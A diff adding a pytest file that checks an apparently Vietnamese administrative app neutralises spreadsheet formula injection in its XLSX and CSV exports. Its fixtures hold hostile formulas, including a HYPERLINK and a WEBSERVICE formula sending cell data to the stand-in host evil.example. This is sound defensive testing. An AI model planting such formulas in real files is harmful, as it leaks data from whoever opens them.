@@ -1,0 +1,126 @@
+"""Issue 14, the app's shell under abuse: no exported cell is a formula (XLSX and CSV, every path), user text in
+refusals is not live Markdown, a missing, corrupt or read-only database gives a clear page and never the setup
+form, setup with demo data publishes no password, backups can be encrypted, and the deploy files set limits."""
+
+import csv
+import io
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+from lib import db as dbm
+from lib import directory, exports, importer, meetings, reports, ui, weaknesses
+from lib.domain import SYSTEM
+from tests.factories import meeting
+
+ROOT = Path(__file__).resolve().parent.parent
+HYPERLINK = '=HYPERLINK("http://evil.example/x","Xã An")'
+WEBSERVICE = '=WEBSERVICE("http://evil.example/?"&A1)'
+FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")
+
+
+# ---- 5. formula injection: every export path --------------------------------------------------------
+
+@pytest.fixture
+def hostile(db_path) -> Path:
+    """A unit, cell, leader, meeting and weakness whose names and notes a spreadsheet would run as formulas."""
+    with dbm.write(db_path) as db:
+        u = directory.create_unit(db, SYSTEM, {"code": "NL", "name": HYPERLINK, "kind": "xa",
+                                               "valid_from": "2020-01-01"})
+        c = directory.create_cell(db, SYSTEM, {"code": "NL1", "unit_id": u, "name": "+Chi bộ 1",
+                                               "cell_type": "ap_khom", "meeting_day": 10, "valid_from": "2020-01-01"})
+        ldr = directory.create_leader(db, SYSTEM, {"code": "L1", "full_name": "@SUM(1)", "grp": "uv_btv",
+                                                   "position": "-1+1"})
+        m = meetings.create(db, SYSTEM, meeting(c, "2025-03-10", notes=WEBSERVICE, topics="=1+1"),
+                            [{"leader_id": ldr}])
+        weaknesses.create(db, SYSTEM, {"unit_id": u, "category": "xay_dung_dang", "description": "=1+2",
+                                       "noted_on": "2025-03-10", "meeting_id": m})
+    return db_path
+
+
+def _cells(data: bytes) -> list:
+    """Every cell of every sheet of a workbook, as openpyxl reads it back (formulas kept as formulas)."""
+    wb = load_workbook(io.BytesIO(data))
+    return [cell for ws in wb for row in ws.iter_rows() for cell in row]
+
+
+def _assert_no_formula(data: bytes, expected_texts: set[str]) -> None:
+    cells = _cells(data)
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert expected_texts <= texts  # the text is kept exactly, with no quote added
+
+
+def test_openpyxl_alone_would_write_a_formula():
+    # the premise: a str starting with "=" becomes a formula cell unless told otherwise
+    from openpyxl import Workbook
+
+    ws = Workbook().active
+    ws["A1"] = HYPERLINK
+    assert ws["A1"].data_type == "f"
+
+
+def test_report_workbook_has_no_formula_and_keeps_the_text(hostile):
+    data = reports.data_xlsx(hostile, "2025-Q1")
+    _assert_no_formula(data, {HYPERLINK, "+Chi bộ 1", "@SUM(1)", WEBSERVICE, "=1+1"})
+
+
+@pytest.mark.parametrize("kind", importer.KINDS)
+def test_record_exports_have_no_formula(hostile, kind):
+    rows = importer.records(hostile, kind)
+    _assert_no_formula(importer.export_xlsx(kind, rows), set())
+    for row in csv.reader(io.StringIO(importer.export_csv(kind, rows).decode("utf-8-sig"))):
+        assert [v for v in row if v.startswith(FORMULA_CHARS)] == []
+
+
+def test_record_export_csv_quotes_formula_text_and_xlsx_keeps_it(hostile):
+    rows = importer.records(hostile, "meetings")
+    (record,) = list(csv.DictReader(io.StringIO(importer.export_csv("meetings", rows).decode("utf-8-sig"))))
+    assert (record["notes"], record["topics"], record["leaders_present"]) == ("'" + WEBSERVICE, "'=1+1", "L1")
+    assert record["members_total"] == "30"
+    leaders = list(csv.DictReader(io.StringIO(importer.export_csv("leaders", importer.records(hostile, "leaders"))
+                                              .decode("utf-8-sig"))))
+    assert (leaders[0]["full_name"], leaders[0]["position"]) == ("'@SUM(1)", "'-1+1")
+    _assert_no_formula(importer.export_xlsx("meetings", rows), {WEBSERVICE, "=1+1"})
+    _assert_no_formula(importer.export_xlsx("units", importer.records(hostile, "units")), {HYPERLINK})
+
+
+FRAME = pd.DataFrame({"Đơn vị": [HYPERLINK, "+84 912 345 678", "@chủ tịch", "\t=1+1", "\r=2+2", "Xã Bình Phú",
+                                 "-5", "#N/A"],
+                      "Thay đổi": [-3, 2, 0, -1, 5, 7, -12, 1],
+                      "Tỷ lệ": [-0.25, 0.5, None, 1.0, 0.0, -1.5, 0.1, 0.2]})
+
+
+def test_dashboard_xlsx_download_has_no_formula_and_numbers_stay_numbers():
+    cells = _cells(ui.to_xlsx(FRAME, "Bảng"))
+    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
+    by_ref = {c.coordinate: c for c in cells}
+    assert [by_ref[f"A{i}"].value for i in range(2, 10)] == list(FRAME["Đơn vị"])
+    assert (by_ref["B2"].value, by_ref["B2"].data_type) == (-3, "n")
+    assert (by_ref["C2"].value, by_ref["C7"].value, by_ref["C7"].data_type) == (-0.25, -1.5, "n")
+
+
+def test_dashboard_csv_download_quotes_formula_text_only():
+    rows = list(csv.reader(io.StringIO(ui.to_csv(FRAME).decode("utf-8-sig"))))
+    assert rows[0] == ["Đơn vị", "Thay đổi", "Tỷ lệ"]
+    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK, "'+84 912 345 678", "'@chủ tịch", "'\t=1+1", "'\r=2+2",
+                                        "Xã Bình Phú", "-5", "#N/A"]
+    assert [r[1] for r in rows[1:]] == ["-3", "2", "0", "-1", "5", "7", "-12", "1"]  # negative numbers unquoted
+    assert rows[1][2] == "-0.25" and rows[6][2] == "-1.5"
+
+
+def test_downloads_button_uses_the_safe_writers():
+    # ui.downloads hands Streamlit exactly ui.to_csv and ui.to_xlsx (checked above)
+    import inspect
+
+    source = inspect.getsource(ui.downloads)
+    assert "to_csv(df)" in source and "to_xlsx(df)" in source and ".to_csv(index" not in source
+
+
+def test_quote_is_only_for_text_and_is_reversible():
+    assert [exports.safe_cell(v) for v in (-3, -2.5, None, "-5", "+1.000,5", "=1", "x=1", "－1", "＠x")] == \
+        [-3, -2.5, None, "-5", "+1.000,5", "'=1", "x=1", "'－1", "'＠x"]
+    for text in ("=1", "@x", "+a", "'plain", "'5", "-", "－x"):
+        assert exports.unquote_cell(exports.safe_cell(text)) == text
